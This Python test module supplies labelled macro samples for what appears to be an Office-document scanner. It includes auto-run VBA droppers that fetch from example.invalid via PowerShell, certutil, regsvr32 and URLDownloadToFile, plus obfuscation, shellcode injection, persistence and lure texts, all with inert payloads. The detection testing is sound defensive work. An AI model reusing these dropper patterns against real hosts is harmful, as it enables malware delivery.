"""Macros for the tests: hostile in shape, harmless in what they would do, and honest ones."""

from __future__ import annotations

from collections.abc import Iterator

from tests.engines.macros import files, shapes
from tests.office import vbamake
from tests.unpack import officefiles

# By heuristic: a source that must have it, and one like it that must not.
BASIC: dict[str, tuple[str, str]] = {
    "autorun.open": ("Private Sub Document_Open()\nEnd Sub", "Sub MyOpen()\n  Document_Open\nEnd Sub"),
    "autorun.close": ("Sub AutoClose()\nEnd Sub", "Sub CloseAll()\nEnd Sub"),
    "autorun.control": (
        "Sub InkPicture1_Painted(ByVal h As Long)\nEnd Sub",
        "Sub Button1_Click()\nEnd Sub\nSub UserForm_Layout()\nEnd Sub",
    ),
    "execute.shell": ('x = Shell("calc", 1)', 'Dim shell As String\nshell = "sea"\nMsgBox "Shell"'),
    "execute.wscript": ('Set o = CreateObject("WScript.Shell")', 'MsgBox "Wscript shells"'),
    "execute.shellexecute": ('o.ShellExecute "calc"', 'MsgBox "ShellExecute"'),
    "execute.wmi": ('Set o = GetObject("winmgmts:root")', 'Set o = GetObject("c:\\book.xls")'),
    "execute.script": ('Set o = CreateObject("MSScriptControl.ScriptControl")', "' MSScriptControl\nx = 1"),
    "execute.popen": (
        'Private Declare PtrSafe Function popen Lib "libc.dylib" (ByVal c As String) As LongPtr',
        'MsgBox "popen"',
    ),
    "execute.excel4": ('Application.ExecuteExcel4Macro "GET.CELL(1)"', 'MsgBox "ExecuteExcel4Macro"'),
    "execute.task": ('Set s = CreateObject("Schedule.Service")', 'MsgBox "Schedule a service"'),
    "execute.keys": ('SendKeys "%{F11}"', "Dim SendKeys As Boolean"),
    "execute.office": ('Set o = CreateObject("MMC20.Application")', 'Set o = CreateObject("Outlook.Application")'),
    "tool.powershell": ('x = "powershell -c 1"', 'x = "power of a shell"'),
    "tool.command": ('x = "cmd /c dir"', 'x = "command"'),
    "tool.script": ('x = "mshta http://example.invalid"', 'x = "curly"'),
    "write.stream": ('Set o = CreateObject("ADODB.Stream")', 'Set o = CreateObject("ADODB.Connection")'),
    "write.object": (
        'Set o = CreateObject("Scripting.FileSystemObject").CreateTextFile("a.txt")',
        'If CreateObject("Scripting.FileSystemObject").FileExists("a.txt") Then MsgBox "a"',
    ),
    "see.files": (
        'Set o = CreateObject("Scripting.FileSystemObject")',
        'Set o = CreateObject("Scripting.Dictionary")',
    ),
    "execute.decoded": (
        'Function D(s)\nD = Mid(s, 2)\nEnd Function\nSub A()\nSet o = CreateObject(D("xMSXML2.Document"))\nEnd Sub',
        'Function D(s)\nSet D = CreateObject(s)\nEnd Function\nSub A()\nSet o = D("MSXML2.Document")\n'
        'Set p = CreateObject("Word.Application").Documents.Add(Range("A1").Value)\nEnd Sub',
    ),
    "execute.template": (
        'ActiveDocument.AttachedTemplate = "http://example.invalid/a.dotm"',
        'ActiveDocument.AttachedTemplate = "C:\\a.dotm"',
    ),
    "execute.mail": ("For Each l In n.AddressLists\nNext", "AddressLists = 1"),
    "write.file": ('Open "a.txt" For Output As #1', 'Open "a.txt" For Input As #1'),
    "write.program": ('x = "\\update.exe"', 'x = "notes.execution"'),
    "write.code": ("ThisDocument.VBProject.VBComponents.Count", "ThisDocument.Paragraphs.Count"),
    "download.function": (
        'Private Declare Function Get1 Lib "urlmon" Alias "URLDownloadToFileA" (ByVal a As Long) As Long',
        'MsgBox "Download to file"',
    ),
    "download.http": ('Set o = CreateObject("MSXML2.XMLHTTP")', 'Set o = CreateObject("MSXML2.DOMDocument")'),
    "download.browser": ('Set o = CreateObject("InternetExplorer.Application")', 'MsgBox "Internet Explorer"'),
    "download.ftp": ('x = "ftp://example.invalid/a"', 'x = "lift: 3"'),
    "inject.memory": (
        'Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As Long) As Long',
        'Private Declare PtrSafe Function Sleep Lib "kernel32" (ByVal a As Long) As Long',
    ),
    "inject.callback": (
        'Declare Function f Lib "kernel32" Alias "EnumDateFormatsA" (ByVal a As Long) As Long',
        "x = EnumDates()",
    ),
    "inject.library": ('h = LoadLibrary("x")', 'h = LoadLibraryOfBooks("x")'),
    "hide.split": ('x = "WScr" & "ipt.Sh" & "ell"', 'x = "wscript.shell"\ny = "wscript" & ".shell"'),
    "hide.chr": (
        "x = Chr(99) & Chr(109) & Chr(100) & Chr(46) & Chr(101) & Chr(120) & Chr(101) & Chr(47)",
        "x = Chr(13) & Chr(10) & Chr(9) & Chr(34) & Chr(13) & Chr(10) & Chr(34) & Chr(13) & Chr(10) & Chr(34)",
    ),
    "hide.reverse": ('x = StrReverse("exe.clac")', "x = StrReverse(name)"),
    "hide.replace": ('x = Replace("c#a#l#c#.#e#x#e", "#", "")', 'x = Replace(name, "#", "")'),
    "hide.encoded": (f'x = "{"4d5a90000300deadbeef178c" * 10}"', f'x = "{"-" * 200}"\ny = "{"word " * 60}"'),
    "hide.joined": ("x = " + " & ".join(['"ab"'] * 25), "x = " + " & ".join(['"some longer text"'] * 25)),
    "hide.decoder": (
        "Function d(s)\nFor i = 1 To Len(s)\nr = r & Chr(Asc(Mid(s, i, 1)) Xor 7)\nNext\nEnd Function",
        "Function d(s)\nFor i = 1 To 9\nr = r & s\nNext\nEnd Function\nSub e()\nx = Chr(Asc(y))\nEnd Sub",
    ),
    "hide.names": (
        "\n".join(
            f"Dim {name}"
            for name in ("qwrtzpsdfg", "hjklxcvbnm", "bcdfghjk12", "xkcdfghjkl", "wqrtpsdfgh", "mnbvcxzlkj")
        ),
        "\n".join(
            f"Dim {name}" for name in ("lastColumn", "firstRow", "totalAmount", "worksheetName", "customer", "address")
        ),
    ),
    "hide.callbyname": ('CallByName o, "Run", 1, x', 'MsgBox "CallByName"'),
    "store.form": ("x = UserForm1.TextBox1.ControlTipText", "x = UserForm1.Width"),
    "store.variable": ('x = ActiveDocument.Variables("a").Value', "x = ActiveDocument.Words(1)"),
    "change.registry": ('o.RegWrite "HKCU\\x", 1', 'o.RegRead "HKCU\\x"'),
    "change.security": ('x = "HKCU\\Software\\Office\\Security\\VBAWarnings"', 'x = "Warnings of VBA"'),
    "change.startup": ("x = Application.StartupPath", "x = Application.Path"),
    "see.environment": ('x = Environ("TEMP")', 'x = "the environment"'),
    "see.sandbox": ("If Application.RecentFiles.Count < 3 Then End", "If Application.Documents.Count < 3 Then End"),
    "see.url": ('x = "http://example.invalid/"', 'x = "http"'),
    "see.window": ("Shell x, vbHide", "Shell x, vbNormalFocus"),
    "see.run": ('Application.Run "a"', "o.Run"),
    "see.declare": ('Declare Function f Lib "user32" () As Long', "Function f() As Long\nEnd Function"),
}

# Formulas of Excel 4.
XLM: dict[str, tuple[list[str], list[str]]] = {
    "execute.xlm": (['EXEC("calc")'], ['ALERT("EXEC(1)")']),
    "inject.xlm": (['CALL("Shell32","ShellExecuteA","J",0)'], ['RECALL("a")']),
    "hide.formula": (["FORMULA(A1&A2,A3)"], ["SUM(A1)"]),
    "hide.char": (["&".join(f"CHAR({code})" for code in range(65, 75))], ["CHAR(65)&CHAR(66)"]),
    "write.file": (['FOPEN("a",3)'], ["FCLOSE(A1)"]),
    "see.run": (["RUN(A1)"], ["RETURN()"]),
    "see.sandbox": (["GET.WORKSPACE(13)"], ["GET.CELL(1)"]),
}

_GO = "Sub AutoOpen()\n{}\nEnd Sub"
_HEX = "4d5a900003000000040000ffff0000b80000000123456789abcdef" * 5

# Each starts by itself and does what droppers do, against example.invalid.
HOSTILE: dict[str, str] = {
    "shell-powershell": _GO.format(
        'Shell "powershell -w hidden -c iwr http://example.invalid/a -OutFile a.txt", vbHide'
    ),
    "shell-cmd": 'Sub Document_Open()\nx = Shell("cmd.exe /c echo test > %TEMP%\\a.txt", 0)\nEnd Sub',
    "wscript-parts": _GO.format('Set o = CreateObject("WScr" & "ipt.Sh" & "ell")\no.Run "ca" & "lc"'),
    "chr": _GO.format("x = " + " & ".join(f"Chr({ord(each)})" for each in "cmd.exe /c echo test") + "\nShell x"),
    "chrw-arithmetic": _GO.format(
        "x = " + " & ".join(f"ChrW({ord(each) + 7} - 7)" for each in "powershell -c 1") + "\nShell x"
    ),
    "reverse": _GO.format('Shell StrReverse("tset ohce c/ exe.dmc")'),
    "replace": _GO.format('Shell Replace("c!!md!!.ex!!e /c ec!!ho te!!st", "!!", "")'),
    "join-array": _GO.format('Shell Join(Array("power", "shell", " -c 1"), "")'),
    "split": _GO.format('p = Split("shell|power|-c 1", "|")\nx = p(1) & p(0)\nShell x'),
    "grow": _GO.format('x = "pow"\nx = x & "ersh"\nx = x & "ell -c 1"\nShell x'),
    "constants": 'Const a = "power"\nConst b = "shell"\n' + _GO.format("Shell a & b"),
    "download": 'Private Declare Function URLDownloadToFileA Lib "urlmon" (ByVal a As Long) As Long\n'
    'Sub Workbook_Open()\nURLDownloadToFileA 0, "http://example.invalid/a.exe", Environ("TEMP") & "\\a.exe", 0, 0\n'
    'Shell Environ("TEMP") & "\\a.exe"\nEnd Sub',
    "xmlhttp-stream": _GO.format(
        'Set h = CreateObject("MSXML2.XMLHTTP")\nh.Open "GET", "http://example.invalid/a", False\nh.Send\n'
        'Set s = CreateObject("ADODB.Stream")\ns.Write h.responseBody\ns.SaveToFile "a.exe", 2'
    ),
    "winhttp-new": _GO.format(
        'Dim h As New WinHttpRequest\nh.Open "GET", "http://example.invalid/a"\n'
        'Open "a.exe" For Binary As #1\nPut #1, , h'
        '\nShell "a.exe"'
    ),
    "wmi": _GO.format(
        'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2:Win32_Process")\nw.Create "powershell -c 1", Null, Null, p'
    ),
    "wmi-parts": _GO.format('Set w = GetObject("winm" & "gmts:Win32_" & "Process")\nw.Create x'),
    "inject": 'Private Declare PtrSafe Function VirtualAlloc Lib "kernel32" (ByVal a As Long) As LongPtr\n'
    'Private Declare PtrSafe Function CreateThread Lib "kernel32" (ByVal a As Long) As LongPtr\n'
    "Sub Auto_Open()\nb = Array("
    + ",".join(["144"] * 60)
    + ")\np = VirtualAlloc(0, 60, 12288, 64)\nCreateThread 0, 0, p, 0, 0, 0"
    "\nEnd Sub",
    "variables": _GO.format('Shell ActiveDocument.Variables("x").Value & " -c 1", vbHide\ny = "powershell"'),
    "form": "Sub Document_Open()\n"
    'CreateObject("WScript.Shell").Run UserForm1.TextBox1.ControlTipText & "cmd /c"\nEnd Sub',
    "properties": _GO.format('x = ActiveDocument.BuiltInDocumentProperties("Comments")\nShell "mshta " & x'),
    "hex": _GO.format(f'x = "{_HEX}"\nOpen "a.exe" For Binary As #1\nShell "a.exe"'),
    "decoder": "Function d(s)\nFor i = 1 To Len(s)\nd = d & Chr(Asc(Mid(s, i, 1)) Xor 7)\nNext\nEnd Function\n"
    + _GO.format('Shell d("dfkd"), vbHide\nSet o = CreateObject(d("xyz"))\nx = "wscript.shell"'),
    "regsvr32": _GO.format('Shell "regsvr32 /s /u /i:http://example.invalid/a.sct scrobj.dll"'),
    "certutil": _GO.format('Shell "certutil -urlcache -f http://example.invalid/a.exe %TEMP%\\a.exe"'),
    "bitsadmin": _GO.format(
        'CreateObject("Shell.Application").ShellExecute "bitsadmin", "/transfer a http://example.invalid/a"'
    ),
    "task": _GO.format('Set s = CreateObject("Schedule.Service")\nShell "schtasks /create /tn a /tr powershell"'),
    "run-key": _GO.format(
        'Set o = CreateObject("WScript.Shell")\n'
        'o.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a", "a.exe"'
        '\nSet f = CreateObject("Scripting.FileSystemObject")\nf.CreateTextFile "a.vbs"'
    ),
    "virus": _GO.format(
        "Options.VirusProtection = False\nNormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString x\n"
        "Application.OrganizerCopy a, b, c, 3"
    ),
    "painted": 'Sub InkEdit1_Painted()\nShell "powershell -c 1"\nx = "http://example.invalid"\nEnd Sub',
    "close": 'Sub AutoClose()\nShell "cmd /c powershell -ep bypass -c 1"\nEnd Sub',
    "excel4": 'Sub Workbook_Open()\nExecuteExcel4Macro "CALL(""urlmon"",""URLDownloadToFileA"",""JJCCJJ"",0)"\nEnd Sub',
    "class-id": _GO.format(
        'Set o = GetObject("new:72C24DD5-D70A-438B-8A42-98424B88AFB8")\no.Run "mshta http://example.invalid"'
    ),
    "mac": _GO.format('MacScript "do shell script ""curl -o a http://example.invalid/a"""\nx = MacScript("osascript")'),
    "bash": _GO.format(
        'CallByName CreateObject("WScript.Shell"), "R" & "un", 1, "cmd.exe /c " & Environ("TEMP") & "\\a.bat"'
    ),
}

HARMLESS: dict[str, str] = {
    "message": 'Sub AutoOpen()\nMsgBox "Welcome"\nEnd Sub',
    "update-fields": "Sub Document_Open()\nActiveDocument.Fields.Update\nEnd Sub",
    "select-sheet": 'Private Sub Workbook_Open()\nSheets("Start").Select\nEnd Sub',
    "refresh": "Sub Workbook_Open()\nThisWorkbook.RefreshAll\nEnd Sub",
    "format": 'Sub Format()\nRange("A1:B9").Font.Bold = True\nSelection.NumberFormat = "0.00"\nEnd Sub',
    "sum": "Function Total(r As Range)\nFor Each c In r\nTotal = Total + c.Value\nNext\nEnd Function",
    "button": "Sub CommandButton1_Click()\nUnload Me\nEnd Sub",
    "form": "Sub UserForm_Initialize()\nTextBox1.Text = Date\nEnd Sub",
    "resize": "Sub UserForm_Resize()\nMe.Width = 100\nEnd Sub",
    "save": 'Sub Workbook_BeforeSave(ByVal a As Boolean, b As Boolean)\nSheets(1).Range("A1") = Now\nEnd Sub',
    "pdf": 'Sub Export()\nActiveSheet.ExportAsFixedFormat 0, ThisWorkbook.Path & "\\report.pdf"\nEnd Sub',
    "csv": 'Sub ToText()\nOpen ThisWorkbook.Path & "\\a.csv" For Output As #1\nPrint #1, "a"\nClose #1\nEnd Sub',
    "read": 'Sub FromText()\nOpen "a.csv" For Input As #1\nLine Input #1, s\nClose #1\nEnd Sub',
    "mail": 'Sub Mail()\nSet o = CreateObject("Outlook.Application")\nSet m = o.CreateItem(0)\n'
    'm.To = "a@example.invalid"\nEnd Sub',
    "database": 'Sub Db()\nSet c = CreateObject("ADODB.Connection")\nc.Open "DSN=a"\nEnd Sub',
    "dictionary": 'Sub D()\nSet d = CreateObject("Scripting.Dictionary")\nd("a") = 1\nEnd Sub',
    "folder": 'Sub F()\nSet f = CreateObject("Scripting.FileSystemObject")\nMsgBox f.FolderExists("C:\\a")\nEnd Sub',
    "link": 'Sub Help()\nThisWorkbook.FollowHyperlink "https://example.invalid/help"\nEnd Sub',
    "notepad": 'Sub Show()\nShell "notepad.exe a.txt", vbNormalFocus\nEnd Sub',
    "user": 'Sub Who()\nMsgBox "User: " & Environ("USERNAME")\nEnd Sub',
    "lines": 'Sub Lines()\nMsgBox "a" & Chr(13) & Chr(10) & "b" & Chr(9) & Chr(34)\nEnd Sub',
    "long-text": "Sub T()\nx = " + " & _\n  ".join(['"a sentence of the terms of use. "'] * 24) + "\nEnd Sub",
    "timer": 'Sub Auto_Open()\nApplication.OnTime Now + 1, "Tick"\nEnd Sub\nSub Tick()\nCalculate\nEnd Sub',
    "sleep": 'Declare PtrSafe Sub Sleep Lib "kernel32" (ByVal a As Long)\nSub Wait()\nSleep 100\nEnd Sub',
    "find-window": 'Declare Function FindWindowA Lib "user32" (ByVal a As String) As Long\nSub F()\n'
    'x = FindWindowA("a")\nEnd Sub',
    "menu": 'Sub Auto_Open()\nCommandBars("Cell").Controls.Add.Caption = "Mine"\nEnd Sub',
    "properties": 'Sub P()\nMsgBox ActiveDocument.BuiltInDocumentProperties("Author")\nEnd Sub',
    "shell-variable": 'Sub S()\nDim shell As Single\nshell = 4\nMsgBox "Shell thickness"\nEnd Sub',
    "comment": 'Sub C()\n\' Shell "powershell"\nRem WScript.Shell\nx = 1\nEnd Sub',
    "translate": 'Sub T()\nx = Replace(ActiveCell.Text, "ä", "ae")\nActiveCell = x\nEnd Sub',
    "rot13": "Function R(s)\nFor i = 1 To Len(s)\nR = R & Chr(Asc(Mid(s, i, 1)) + 1)\nNext\nEnd Function",
    "web-query": 'Sub Q()\nSet h = CreateObject("MSXML2.XMLHTTP")\n'
    'h.Open "GET", "https://example.invalid/rates", False\nEnd Sub',
}


# ---------------------------------------------------------------------------- whole files


def graded() -> Iterator[tuple[str, bool, str, bytes]]:
    """For the guard over all engines: what each is called, whether it is hostile in shape, its file name, its bytes."""
    for number, (name, source) in enumerate((HOSTILE | shapes.HOSTILE).items()):
        project = vbamake.streams({"Module1": source})
        if number % 2:
            yield f"vba-{name}", True, "a.doc", files.old(project)
        else:
            yield f"vba-{name}", True, "a.docm", files.docm(officefiles.ole(project))
    for number, (name, source) in enumerate((HARMLESS | shapes.HARMLESS).items()):
        project = vbamake.streams({"Module1": source})
        if number % 2:
            yield f"vba-{name}", False, "a.doc", files.old(project)
        else:
            yield f"vba-{name}", False, "a.docm", files.docm(officefiles.ole(project))
    yield from _excel4()
    yield from _basic()
    yield from _stores()
    yield from _around()
    yield from _stomped()


def _excel4() -> Iterator[tuple[str, bool, str, bytes]]:
    beside = ("cmd", ".exe")
    for name, rows in shapes.XLM.items():
        yield f"xls-{name}", True, "a.xls", files.biff8(rows, texts=beside)
        yield f"xlsm-{name}", True, "a.xlsm", files.xlsm(rows, texts=beside)
        yield f"xlsb-{name}", True, "a.xlsb", files.xlsb(rows, texts=beside)
    yield "xls-hidden", True, "a.xls", files.biff8(['EXEC("calc")'], hidden=2, name="auto_open_x")
    yield "xlsm-hidden", True, "a.xlsm", files.xlsm(['EXEC("calc")'], hidden="veryHidden")
    yield "slk", True, "a.slk", files.sylk(shapes.XLM["exec"])
    for name, rows in shapes.XLM_HARMLESS.items():
        yield f"xls-{name}", False, "a.xls", files.biff8(rows)
        yield f"xlsm-{name}", False, "a.xlsm", files.xlsm(rows)
        yield f"xlsb-{name}", False, "a.xlsb", files.xlsb(rows, auto=False)
    yield "slk-alert", False, "a.slk", files.sylk(shapes.XLM_HARMLESS["alert"])


def _basic() -> Iterator[tuple[str, bool, str, bytes]]:
    for name, source in shapes.BASIC.items():
        yield f"odt-{name}", True, "a.odt", files.odt(source)
    yield "odt-apart", True, "a.odt", files.odt('Const a = "cmd.exe /c echo"', "Sub Main\n Shell(a)\nEnd Sub")
    for name, source in shapes.BASIC_HARMLESS.items():
        yield f"odt-{name}", False, "a.odt", files.odt(source)


def _stores() -> Iterator[tuple[str, bool, str, bytes]]:
    """Texts that the code reads from elsewhere."""
    run = "Sub AutoOpen()\nx = {}\nShell x, 0\nEnd Sub"
    command = "powershell -c 1"
    two = vbamake.project(run.format('ActiveDocument.Variables("a").Value & ActiveDocument.Variables("b").Value'))
    yield "variables", True, "a.docm", files.docm(two, parts=files.settings(a="power", b="shell -c 1"))
    back = vbamake.project(run.format('StrReverse(ActiveDocument.Variables("a"))'))
    yield "backwards", True, "a.docm", files.docm(back, parts=files.settings(a=command[::-1]))
    own = vbamake.project(run.format('ActiveDocument.CustomDocumentProperties("Key").Value'))
    yield "custom-property", True, "a.docm", files.docm(own, parts=files.custom(Key=command))
    comments = run.format('ActiveDocument.BuiltInDocumentProperties("Comments").Value')
    yield "comments", True, "a.docm", files.docm(vbamake.project(comments), parts=files.core(command))
    yield (
        "comments-old",
        True,
        "a.doc",
        files.old(
            vbamake.streams({"A": comments}),
            more={"\x05SummaryInformation": files.properties(title="t", comments=command)},
        ),
    )
    yield (
        "form-caption",
        True,
        "a.docm",
        files.docm(files.form(run.format("UserForm1.Label1.Caption"), "Name", command)),
    )
    yield "form-tag", True, "a.docm", files.docm(files.form(run.format("StrReverse(UserForm1.Tag)"), command[::-1]))
    table = "variables".encode("utf-16-le") + command.encode("utf-16-le")
    yield (
        "variables-old",
        True,
        "a.doc",
        files.old(vbamake.streams({"A": run.format('ActiveDocument.Variables("a")')}), more={"1Table": table}),
    )
    show = 'Sub AutoOpen()\nMsgBox ActiveDocument.Variables("a").Value & UserForm1.Caption\nEnd Sub'
    yield "form-labels", False, "a.docm", files.docm(files.form(show, "Name", "Address", "OK", "Cancel"))
    yield (
        "variables-shown",
        False,
        "a.docm",
        files.docm(vbamake.project(show), parts=files.settings(a="Version 3", b="https://example.invalid")),
    )
    yield (
        "custom-shown",
        False,
        "a.docm",
        files.docm(
            vbamake.project('Sub AutoOpen()\nMsgBox ActiveDocument.CustomDocumentProperties("Client")\nEnd Sub'),
            parts=files.custom(Client="Command and Conquer Shell Company"),
        ),
    )
    yield (
        "properties-shown",
        False,
        "a.doc",
        files.old(
            vbamake.streams({"A": 'Sub P()\nMsgBox ActiveDocument.BuiltInDocumentProperties("Title")\nEnd Sub'}),
            more={"\x05SummaryInformation": files.properties(title="Report on PowerShell", author="Alice")},
        ),
    )


def _around() -> Iterator[tuple[str, bool, str, bytes]]:
    """Lures, templates, controls, slides."""
    shell = vbamake.project('Sub AutoOpen()\nShell "notepad a.txt"\nEnd Sub')
    control = vbamake.project('Sub InkPicture1_Painted()\nShell "cmd.exe /c echo 1"\nEnd Sub')
    click = vbamake.project('Sub Go()\nShell "cmd.exe /c powershell -c 1"\nEnd Sub')
    for name, text in LURES.items():
        yield f"lure-{name}", True, "a.docm", files.docm(shell, text)
    yield "template", True, "a.docm", files.docm(shell, parts=files.template("http://example.invalid/a.dotm"))
    yield "activex", True, "a.docm", files.docm(control, parts={"word/activeX/activeX1.xml": "<ax:ocx/>"})
    yield "slide-hover-macro", True, "a.pptm", files.pptm("ppaction://macro?name=Go", hover=True, project=click)
    program, powershell = "ppaction://program", "powershell%20-w%20hidden%20-c%201"
    yield "slide-hover-program", True, "a.pptx", files.pptm(program, hover=True, target=powershell)
    yield "slide-click-program", True, "a.pptx", files.pptm(program, target="file:///C:\\Windows\\System32\\cmd.exe")
    yield "slide-link", True, "a.pptx", files.pptm("", target="mshta http://example.invalid")
    yield "slide-old", True, "a.ppt", files.ppt(2, "powershell -c 1", hover=True)
    message = vbamake.project('Sub Go()\nMsgBox "Right!"\nEnd Sub')
    update = vbamake.project("Sub AutoOpen()\nActiveDocument.Fields.Update\nEnd Sub")
    yield "lure-honest", False, "a.docm", files.docm(update, LURES["en"])
    yield "template-honest", False, "a.docm", files.docm(update, parts=files.template("file:///C:\\a.dotm"))
    yield "activex-honest", False, "a.docm", files.docm(message, parts={"word/activeX/activeX1.xml": "<ax:ocx/>"})
    yield "slide-macro", False, "a.pptm", files.pptm("ppaction://macro?name=Go", project=message)
    yield "slide-hover-honest", False, "a.pptm", files.pptm("ppaction://macro?name=Go", hover=True, project=message)
    yield "slide-jump", False, "a.pptx", files.pptm("ppaction://hlinksldjump")
    yield "slide-web", False, "a.pptx", files.pptm("", target="https://example.invalid/powershell.exe")
    yield "slide-file", False, "a.pptx", files.pptm("ppaction://hlinkfile", target="notes.docx")
    yield "slide-old-honest", False, "a.ppt", files.ppt(4, "next")


def _stomped() -> Iterator[tuple[str, bool, str, bytes]]:
    cache = vbamake.literal("powershell -c 1") + bytes(200)
    empty = vbamake.streams({"Module1": ""}, names=("AutoOpen", "Shell"), cache=cache)
    other = vbamake.streams({"Module1": 'Sub Hello()\nMsgBox "a"\nEnd Sub'}, names=("AutoOpen", "Shell"), cache=cache)
    yield "stomped-empty", True, "a.doc", files.old(empty)
    yield "stomped-exchanged", True, "a.docm", files.docm(officefiles.ole(other))


LURES: dict[str, str] = {
    "en": "This document is protected. Please click Enable Editing and then Enable Content.",
    "de": "Bitte klicken Sie auf \u201eInhalt aktivieren\u201c.",
    "fr": "Cliquez sur \u00ab Activer la modification \u00bb puis sur \u00ab Activer le contenu \u00bb.",
    "es": "Haga clic en Habilitar contenido.",
    "ru": "Нажмите «Включить содержимое».",
    "ja": "「コンテンツの有効化」をクリックしてください。",
}
